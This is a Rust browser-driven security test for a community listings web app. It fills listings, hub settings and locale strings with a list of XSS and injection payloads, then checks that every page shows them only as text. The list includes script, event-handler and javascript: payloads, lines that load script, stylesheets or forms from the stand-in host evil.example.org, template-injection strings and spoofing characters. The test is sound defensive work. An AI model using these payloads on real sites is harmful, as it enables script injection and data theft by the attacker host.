//! Break-in attempts: a directory, settings and words full of what attackers write, opened on every
//! page. All of it is text: no request to elsewhere, no refusal of the policy (nothing got as far as that),
//! no dialog, no element and no attribute that could act.

use crate::stage::{Page, Setting, Stage, cdp, write_down};
use crate::steps::{self, Person};
use crate::support::full_listing;
use crate::town;
use come_along::i18n::say;
use come_along::model::{Fact, Listing, Need, Organization, Prose, Room, RoomState, TravelHelp, Whereabouts};
use serde_json::{Value, json};

/// What attackers write.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "<a href=\"javascript:alert(1)\">press</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<style>@import 'https://evil.example.org/a.css';</style>",
    "\" style=\"background:url(https://evil.example.org/b)",
    "</title></textarea><script src=https://evil.example.org/c.js></script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=https://evil.example.org/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org/'>",
    "<link rel=stylesheet href=https://evil.example.org/d.css>",
    "<form action=https://evil.example.org/><button>Send</button></form>",
    "{{say crisis-999}} {{hub leave}} {{plain error-plain}}",
    "${alert(1)} `alert(1)` { $count }",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b>",
    "\u{202e}gro.elpmaxe.live\u{202c} \u{2066}never closed",
    "https://www.bbс.co.uk/weather",
    "<svg><use href=\"https://evil.example.org/e#x\"/></svg>",
    "<details open ontoggle=alert(1)><object data=https://evil.example.org/f></object>",
];

/// Counts what opens a window, in every document before its own scripts.
const DIALOGS: &str = "window.dialogs = 0;
    for (const name of ['alert', 'confirm', 'prompt', 'open', 'print']) window[name] = () => { dialogs += 1; };";

/// Elements that were looked at, and everything on the page that could act.
const ACTING: &str = r#"
const all = [...document.querySelectorAll('*')];
const ours = (url) => url.startsWith('/') && !url.startsWith('//') || /^(#|tel:|sms:)/.test(url) || url === 'https://www.bbc.co.uk/weather';
const faults = [];
for (const one of all) {
  const tag = one.localName;
  if (['iframe', 'object', 'embed', 'img', 'style', 'base', 'frame', 'audio', 'video', 'applet', 'animate', 'template'].includes(tag)) faults.push(tag);
  const isOurs = one.matches('body > script[src="/boot.js"][data-wasm]');
  if (tag === 'script' && !document.head.contains(one) && !isOurs) faults.push('script in the body');
  if (tag === 'meta' && one.httpEquiv && one.httpEquiv !== 'Content-Security-Policy') faults.push('meta ' + one.httpEquiv);
  for (const { name, value } of one.attributes) {
    if (name.startsWith('on')) faults.push(tag + ' ' + name);
    if (['href', 'src', 'action', 'formaction', 'srcdoc', 'xlink:href'].includes(name) && !ours(value)) faults.push(tag + ' ' + name + '=' + value);
    if (['srcdoc', 'style'].includes(name) && /evil|alert/.test(value)) faults.push(tag + ' ' + name + '=' + value);
  }
}
return [all.length, faults];
"#;

/// What was counted on the way.
#[derive(Default)]
struct Counted {
    pages: usize,
    elements: u64,
    /// How often each attack stood there as text.
    seen: [usize; ATTACKS.len()],
    dialogs: u64,
    refusals: usize,
    acting: Vec<String>,
}

impl Counted {
    /// Looks at the page on the screen.
    async fn look(&mut self, page: &Page, name: &str) {
        let found = page.js(ACTING, &[]).await;
        self.pages += 1;
        self.elements += found[0].as_u64().unwrap();
        self.acting.extend(found[1].as_array().unwrap().iter().map(|fault| format!("{name}: {fault}")));
        self.dialogs += page.js("return dialogs", &[]).await.as_u64().unwrap();
        self.refusals += page.refusals().await.len();
        let text = page.js("return document.body.textContent", &[]).await;
        let text = text.as_str().unwrap_or_default();
        for (seen, attack) in self.seen.iter_mut().zip(ATTACKS) {
            *seen += usize::from(text.contains(attack));
        }
    }
}

/// Every attack in some field of some listing.
fn listings() -> Vec<Listing> {
    (0..4).map(|number| listing(number * 6)).collect()
}

/// A listing of which everything is known, every free text an attack: from that number on.
fn listing(first: usize) -> Listing {
    let mut next = first;
    let mut attack = move || {
        let attack = ATTACKS[next % ATTACKS.len()];
        next += 1;
        attack.to_owned()
    };
    let mut listing = full_listing();
    listing.id = format!("town:attack-{first}");
    listing.source = "town".into();
    listing.receiver = None;
    listing.runs_until = None;
    listing.checked = None;
    listing.room = Fact::stated(Room { state: RoomState::Places, as_of: None });
    listing.needs = vec![Need::People];
    listing.name = Prose { text: attack(), lang: Some("\"><script>alert(1)</script>".into()) };
    listing.description = Some(Prose::english(attack()));
    listing.organization = Some(Organization { name: attack(), url: Some(attack()) });
    listing.travel_help = Fact::stated(TravelHelp::BusPaid);
    let mut place = match &listing.place {
        Fact::Known { value: Whereabouts::At(place), .. } => place.clone(),
        _ => Default::default(),
    };
    (place.name, place.street, place.area) = (Some(attack()), Some(attack()), Some(attack()));
    listing.place = Fact::stated(Whereabouts::At(place));
    listing.who_runs_it = Fact::stated(Prose::english(attack()));
    listing.who_can_come = Fact::stated(Prose::english(attack()));
    listing.contact.phone = Some(attack());
    listing.contact.email = Some(attack());
    listing.contact.url = Some(attack());
    listing
}

/// Settings and words, as far as a hub takes them.
fn poison(stage: &Stage) {
    stage.hub.set("name", json!(format!("Hub {}", ATTACKS[0])));
    stage.hub.set("address", json!([ATTACKS[1], ATTACKS[19]]));
    stage.hub.set("opening", json!(ATTACKS[9]));
    stage.hub.set("safeguarding", json!(ATTACKS[2]));
    let places: Vec<Value> =
        [3, 5, 15].into_iter().map(|at| json!({ "name": ATTACKS[at], "lat": 51.45, "lon": -2.58 })).collect();
    stage.hub.set("places", json!(places));
    for file in town::encoded(listings()) {
        stage.hub.put(&format!("directory/{}", file.name), &file.bytes);
    }
    let words = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/locales/en-GB/01-home.ftl")).unwrap();
    let words: String = words
        .lines()
        .map(|line| match line.split_once(" = ") {
            Some(("home-hint", _)) => format!("home-hint = {}\n", ATTACKS[1]),
            Some(("home-promise", _)) => format!("home-promise = {}\n", ATTACKS[6]),
            Some(("language-machine", _)) => format!("language-machine = {}\n", ATTACKS[4]),
            Some(("loading", _)) => format!("loading = {}\n", ATTACKS[0]),
            _ => format!("{line}\n"),
        })
        .collect();
    stage.hub.put("locales/en-GB/01-home.ftl", words.as_bytes());
}

#[tokio::test]
async fn what_attackers_write_is_text_on_every_page() {
    let stage = Stage::with("attacks", Setting { offline: true, ..Setting::default() }).await;
    poison(&stage);
    stage.speak("en-GB");
    let page = &stage.page;
    cdp(page, "Page.addScriptToEvaluateOnNewDocument", json!({ "source": DIALOGS })).await;
    let mut counted = Counted::default();
    let things: Vec<String> = listings().iter().map(|listing| format!("thing/{}", listing.id)).collect();
    let pages = ["languages", "home", "choices", "list", "privacy", "about", "directory"];
    for route in pages.into_iter().chain(things.iter().map(String::as_str)) {
        page.goto("about:blank").await;
        page.goto(&format!("{}#{route}", stage.hub.origin())).await;
        page.at(say::language_title()).await;
        if route != "languages" {
            page.press_text("button", &steps::own_name("en-GB")).await;
            let left = "return document.querySelector('h1')?.innerText !== arguments[0]";
            let title = json!(page.words(&say::language_title()));
            page.until(route, async || (page.js(left, std::slice::from_ref(&title)).await == true).then_some(())).await;
        }
        counted.look(page, route).await;
    }
    asking(&stage, &mut counted).await;
    for tag in ["en-GB", "ar"] {
        for address in [format!("{tag}/"), format!("list/{tag}.html")] {
            page.goto(&format!("{}{address}", stage.hub.origin())).await;
            counted.look(page, &address).await;
        }
    }
    let site = stage.hub.origin();
    let elsewhere: Vec<String> =
        page.requests().await.into_iter().filter(|url| !url.starts_with(&site) && url != "about:blank").collect();
    let Counted { pages, elements, seen: each, dialogs, refusals, acting } = counted;
    let seen: usize = each.iter().sum();
    let as_text =
        ATTACKS.iter().zip(each).map(|(attack, seen)| (format!("as text: {attack}"), json!(seen), json!(null)));
    let counts = [
        ("pages", json!(pages), json!(null)),
        ("elements looked at", json!(elements), json!(null)),
        ("elements and attributes that act", json!(acting.len()), json!(0)),
        ("requests to elsewhere", json!(elsewhere.len()), json!(0)),
        ("refusals of the policy", json!(refusals), json!(0)),
        ("dialogs", json!(dialogs), json!(0)),
    ];
    let counts = counts.into_iter().map(|(name, value, target)| (name.to_owned(), value, target));
    write_down("attacks", &counts.chain(as_text).collect::<Vec<_>>());
    println!(
        "{} attacks on {pages} pages, seen {seen} times as text, {elements} elements: {} that act, \
         {} requests to elsewhere, {refusals} refusals, {dialogs} dialogs",
        ATTACKS.len(),
        acting.len(),
        elsewhere.len()
    );
    assert_eq!((elsewhere, acting, refusals, dialogs), (Vec::new(), Vec::new(), 0, 0));
    assert!(seen > 5 * ATTACKS.len(), "the attacks were hardly anywhere: {seen}");
}

/// From the first listing through the questions to what was sent, with attacks typed.
async fn asking(stage: &Stage, counted: &mut Counted) {
    let page = &stage.page;
    page.press(say::ask_open()).await;
    page.at(say::q_name()).await;
    counted.look(page, "ask").await;
    page.press(say::back()).await;
    page.press(say::tell_wrong_open()).await;
    page.until("the page to tell", async || page.find("textbox", "").await).await;
    counted.look(page, "tell").await;
    page.press(say::back()).await;
    let person = Person { name: ATTACKS[1], phone: "07700 900123", words: ATTACKS[9] };
    steps::ask(page, person).await;
    counted.look(page, "check").await;
    page.press(say::check_send()).await;
    steps::receipt(page).await;
    counted.look(page, "sent").await;
    let [id] = stage.hub.letters().try_into().expect("one letter");
    assert_eq!(stage.hub.opened_by_age(&id)["answers"]["else"], ATTACKS[9], "nothing that was typed is changed");
}
